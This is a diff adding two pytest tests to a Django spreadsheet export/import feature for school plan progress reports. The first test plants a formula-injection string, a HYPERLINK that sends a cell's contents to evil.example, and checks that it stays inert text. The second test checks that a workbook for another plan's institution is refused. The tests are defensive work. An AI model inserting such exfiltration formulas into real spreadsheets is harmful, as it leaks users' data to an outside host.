@@ -146,3 +146,56 @@ def test_upload_through_the_page_lists_problems(client, world):
     assert response.status_code == 400
     assert "row 2, column E" in response.content.decode()
     assert not ProgressReport.objects.exists()
+
+
+def test_text_that_looks_like_a_formula_stays_text_and_survives_the_round_trip(world):
+    """A reporter's "=HYPERLINK(...)" is never a live formula in the coordinator's workbook, and
+    uploading the workbook back unchanged keeps every text exactly as it was (it used to erase it)."""
+    planted = '=HYPERLINK("http://evil.example/?d="&F2,"Отвори")'
+    measure = world.own_measure
+    measure.text = "-обучения за родители"
+    measure.save(update_fields=["text"])
+    text_indicator = measure.indicators.get(position=2)
+    services.save_report(
+        measure, world.period,
+        services.ReportInput(measure_status="in_progress", done_text=planted, values={text_indicator.pk: "@SUM(1;2)"}),
+        actor=world.users["reporter"], version=0,
+    )
+    content = spreadsheets.write_workbook(world.period, world.school)
+    wb = load_workbook(io.BytesIO(content))
+    formulas = [c.coordinate for sheet in wb.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    measures_sheet = wb.worksheets[0]
+    assert measures_sheet.cell(row=2, column=6).value == planted
+    assert measures_sheet.cell(row=2, column=6).quotePrefix is True
+    assert measures_sheet.cell(row=2, column=4).value == "-обучения за родители"
+    values = load_workbook(io.BytesIO(content), data_only=True)  # what a spreadsheet program shows
+    assert values.worksheets[0].cell(row=2, column=6).value == planted
+    assert "@SUM(1;2)" in [c.value for row in values.worksheets[1].iter_rows() for c in row]
+
+    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
+    assert result.problems == []
+    report = ProgressReport.objects.get(measure=measure, period=world.period)
+    assert report.done_text == planted
+    assert report.values.get(indicator=text_indicator).raw == "@SUM(1;2)"
+
+
+def test_no_workbook_for_an_institution_of_another_plan(client, world):
+    """The download names the institution and its plan's period: only institutions of this plan get one."""
+    from django.urls import reverse
+
+    from planmonitor.accounts.models import Institution
+
+    theirs = Institution.objects.create(abbreviation="NS", name="Neighbour school", municipality=world.neighbour)
+    world.neighbour_plan.measures.first().institutions.add(theirs)
+    client.force_login(world.users["coordinator"])
+    url = reverse("monitoring:xlsx_download", args=[world.period.pk, theirs.pk])
+    assert client.get(url).status_code == 404
+    assert client.get(reverse("monitoring:xlsx_download", args=[world.period.pk, world.school.pk])).status_code == 200
+
+    def other_institution(measures_sheet, indicators_sheet):
+        measures_sheet.parent["meta"]["B3"] = theirs.pk
+
+    content = filled(spreadsheets.write_workbook(world.period, world.school), other_institution)
+    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
+    assert [(p.sheet, p.row, p.column) for p in result.problems] == [("meta", 3, "B")]
